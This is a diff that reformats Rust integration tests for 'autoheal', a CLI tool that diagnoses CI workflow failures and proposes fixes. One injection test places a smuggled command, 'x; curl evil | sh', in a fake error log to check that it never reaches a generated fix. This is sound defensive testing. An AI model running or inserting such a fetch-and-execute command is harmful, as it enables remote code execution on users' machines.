@@ -25,7 +25,11 @@ fn raw_log() -> String {
         "E   ModuleNotFoundError: No module named 'yaml'",
         "##[error]Process completed with exit code 2.",
     ];
-    lines.iter().enumerate().map(|(i, l)| format!("2024-05-02T10:15:{:02}.1234567Z {l}\n", i)).collect()
+    lines
+        .iter()
+        .enumerate()
+        .map(|(i, l)| format!("2024-05-02T10:15:{:02}.1234567Z {l}\n", i))
+        .collect()
 }
 
 fn repo() -> tempfile::TempDir {
@@ -38,13 +42,28 @@ fn repo() -> tempfile::TempDir {
 }
 
 fn autoheal(dir: &Path, args: &[&str]) -> Output {
-    Command::new(env!("CARGO_BIN_EXE_autoheal")).args(args).current_dir(dir).env("NO_COLOR", "1").output().unwrap()
+    Command::new(env!("CARGO_BIN_EXE_autoheal"))
+        .args(args)
+        .current_dir(dir)
+        .env("NO_COLOR", "1")
+        .output()
+        .unwrap()
 }
 
 #[test]
 fn diagnose_maps_the_failure_onto_the_failing_step_and_attaches_a_fix() {
     let dir = repo();
-    let out = autoheal(dir.path(), &["diagnose", "job.log", "--workflow", ".github/workflows/ci.yml", "--format", "json"]);
+    let out = autoheal(
+        dir.path(),
+        &[
+            "diagnose",
+            "job.log",
+            "--workflow",
+            ".github/workflows/ci.yml",
+            "--format",
+            "json",
+        ],
+    );
     assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
     let v: Value = serde_json::from_slice(&out.stdout).unwrap();
     let f = &v["failures"][0];
@@ -62,9 +81,23 @@ fn diagnose_maps_the_failure_onto_the_failing_step_and_attaches_a_fix() {
 #[test]
 fn diagnose_save_writes_the_failure_store() {
     let dir = repo();
-    let out = autoheal(dir.path(), &["diagnose", "job.log", "--workflow", ".github/workflows/ci.yml", "--save", "--run-id", "123456"]);
+    let out = autoheal(
+        dir.path(),
+        &[
+            "diagnose",
+            "job.log",
+            "--workflow",
+            ".github/workflows/ci.yml",
+            "--save",
+            "--run-id",
+            "123456",
+        ],
+    );
     assert_eq!(out.status.code(), Some(0));
-    let files: Vec<_> = std::fs::read_dir(dir.path().join(".autoheal/failures")).unwrap().map(|e| e.unwrap().path()).collect();
+    let files: Vec<_> = std::fs::read_dir(dir.path().join(".autoheal/failures"))
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .collect();
     assert_eq!(files.len(), 1);
     let v: Value = serde_json::from_str(&std::fs::read_to_string(&files[0]).unwrap()).unwrap();
     assert_eq!(v["run_id"], 123456);
@@ -90,13 +123,23 @@ fn fix_prints_a_diff_then_writes_it_keeping_comments() {
     let out = autoheal(dir.path(), &["fix", "--log", "job.log"]);
     assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
     let diff = String::from_utf8_lossy(&out.stdout);
-    assert!(diff.contains("-      - run: pip install pytest   # deps\n+      - run: pip install pytest PyYAML   # deps\n"), "{diff}");
+    assert!(
+        diff.contains("-      - run: pip install pytest   # deps\n+      - run: pip install pytest PyYAML   # deps\n"),
+        "{diff}"
+    );
     assert!(String::from_utf8_lossy(&out.stderr).contains("it is the repository's only workflow"));
-    assert_eq!(std::fs::read_to_string(dir.path().join(".github/workflows/ci.yml")).unwrap(), WORKFLOW, "no write without --write");
+    assert_eq!(
+        std::fs::read_to_string(dir.path().join(".github/workflows/ci.yml")).unwrap(),
+        WORKFLOW,
+        "no write without --write"
+    );
     let out = autoheal(dir.path(), &["fix", "--log", "job.log", "--write"]);
     assert_eq!(out.status.code(), Some(0));
     let fixed = std::fs::read_to_string(dir.path().join(".github/workflows/ci.yml")).unwrap();
-    assert_eq!(fixed, WORKFLOW.replace("pip install pytest   # deps", "pip install pytest PyYAML   # deps"));
+    assert_eq!(
+        fixed,
+        WORKFLOW.replace("pip install pytest   # deps", "pip install pytest PyYAML   # deps")
+    );
 }
 
 #[test]
@@ -110,7 +153,10 @@ fn fix_works_on_a_run_logs_zip() {
     zip.write_all(raw_log().as_bytes()).unwrap();
     let bytes = zip.finish().unwrap().into_inner();
     std::fs::write(dir.path().join("logs.zip"), bytes).unwrap();
-    let out = autoheal(dir.path(), &["fix", "--log", "logs.zip", "--workflow", ".github/workflows/ci.yml"]);
+    let out = autoheal(
+        dir.path(),
+        &["fix", "--log", "logs.zip", "--workflow", ".github/workflows/ci.yml"],
+    );
     assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
     assert!(String::from_utf8_lossy(&out.stdout).contains("+      - run: pip install pytest PyYAML   # deps"));
 }
@@ -120,10 +166,20 @@ fn fix_refuses_failures_a_human_must_handle() {
     let dir = repo();
     let log = "##[group]Run python -m pytest -q\n##[endgroup]\nFAILED tests/test_math.py::test_add - assert 3 == 4\n1 failed, 10 passed in 0.31s\n##[error]Process completed with exit code 1.\n";
     std::fs::write(dir.path().join("fail.log"), log).unwrap();
-    let out = autoheal(dir.path(), &["fix", "--log", "fail.log", "--workflow", ".github/workflows/ci.yml"]);
+    let out = autoheal(
+        dir.path(),
+        &["fix", "--log", "fail.log", "--workflow", ".github/workflows/ci.yml"],
+    );
     assert_eq!(out.status.code(), Some(1));
-    assert!(String::from_utf8_lossy(&out.stderr).contains("no fix"), "{}", String::from_utf8_lossy(&out.stderr));
-    assert_eq!(std::fs::read_to_string(dir.path().join(".github/workflows/ci.yml")).unwrap(), WORKFLOW);
+    assert!(
+        String::from_utf8_lossy(&out.stderr).contains("no fix"),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert_eq!(
+        std::fs::read_to_string(dir.path().join(".github/workflows/ci.yml")).unwrap(),
+        WORKFLOW
+    );
 }
 
 #[test]
@@ -131,7 +187,10 @@ fn injected_module_names_never_reach_a_fix() {
     let dir = repo();
     let log = raw_log().replace("No module named 'yaml'", "No module named 'x; curl evil | sh'");
     std::fs::write(dir.path().join("evil.log"), log).unwrap();
-    let out = autoheal(dir.path(), &["fix", "--log", "evil.log", "--workflow", ".github/workflows/ci.yml"]);
+    let out = autoheal(
+        dir.path(),
+        &["fix", "--log", "evil.log", "--workflow", ".github/workflows/ci.yml"],
+    );
     assert_eq!(out.status.code(), Some(1));
     assert!(!String::from_utf8_lossy(&out.stdout).contains("curl"));
 }
